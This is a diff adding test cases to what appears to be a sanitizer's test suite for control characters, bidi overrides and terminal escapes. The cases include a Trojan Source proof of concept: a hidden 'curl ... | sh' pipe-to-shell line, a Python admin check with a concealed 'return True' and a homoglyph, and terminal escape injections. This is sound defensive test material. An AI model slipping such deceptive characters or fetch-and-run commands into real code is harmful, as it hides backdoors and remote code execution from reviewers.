@@ -381,3 +381,53 @@ want 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'
 want 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'
 want 'xx\n'
 want 'tab here.txt\n'
+
+# the other C0 controls and DEL go: backspace over text, BEL, VT, FF, the
+# VT100 charset shifts SO/SI, every other C0 byte
+start text-c0
+input 'bs: safe\010\010\010\010evil|bel: ding\007|vt: a\013b|ff: a\014b\n'
+input 'so si: \016lqqk\017|del: x\177y|cr tricks kept as breaks\n'
+input 'all: \001\002\003\004\005\006\020\021\022\023\024\025\026\027\030'
+input '\031\032\034\035\036\037|end\n'
+want 'bs: safeevil|bel: ding|vt: ab|ff: ab\n'
+want 'so si: lqqk|del: xy|cr tricks kept as breaks\n'
+want 'all: |end\n'
+want '\n'
+want '--- flags: control-characters\n'
+
+# line and paragraph separators, interlinear annotations, the deprecated
+# format characters: visible; NEL (C1) goes
+start text-separators
+input 'ls: a\342\200\250b|ps: a\342\200\251b|nel: a\302\205b\n'
+input 'annotation: \357\277\271base\357\277\272ruby\357\277\273|iss: '
+input '\342\201\252x\342\201\257|end\n'
+want 'ls: a<U+2028>b|ps: a<U+2029>b|nel: ab\n'
+want 'annotation: <U+FFF9>base<U+FFFA>ruby<U+FFFB>|iss: <U+206A>x<U+206F>'
+want '|end\n'
+want '\n'
+want '--- flags: control-characters\n'
+
+# Trojan Source in a proof of concept: a shell line whose RLO hides what
+# runs, a Python check whose isolates move the return, a homoglyph kept
+start text-trojan-poc
+input '$ curl -s https://victim.example/x | sh #\342\200\256 hs | x/elpm'
+input 'axe.mitciv//:sptth s- lruc\342\200\254\n'
+input 'def is_admin(user):\n'
+input '    """\342\200\256 """ ; return True ; """\342\201\246"""\n'
+input '    return user == "\320\260dmin"\n'
+want '$ curl -s https://victim.example/x | sh #<U+202E> hs | x/elpmaxe.mi'
+want 'tciv//:sptth s- lruc<U+202C>\n'
+want 'def is_admin(user):\n'
+want '    """<U+202E> """ ; return True ; """<U+2066>"""\n'
+want '    return user == "\320\260dmin"\n'
+want '\n'
+want '--- flags: bidi-controls\n'
+
+# one header line with every terminal trick: OSC title and BEL, C1 CSI,
+# isolates, zero width, NUL, backspace, overlong and raw C1 ESC, DEL
+start header-terminal
+input 'Subject \033]0;pwned\007 \302\2332J \342\201\246iso\342\201\251 a'
+input '\342\200\213b n\000ul b\010s \300\233[2J \2332J d\177el\n'
+want 'Subject ]0;pwned 2J <U+2066>iso<U+2069> a<U+200B>b nul bs \357\277'
+want '\275\357\277\275[2J \357\277\2752J del\n'
+want '--- flags: invalid-utf8,bidi-controls,control-characters\n'
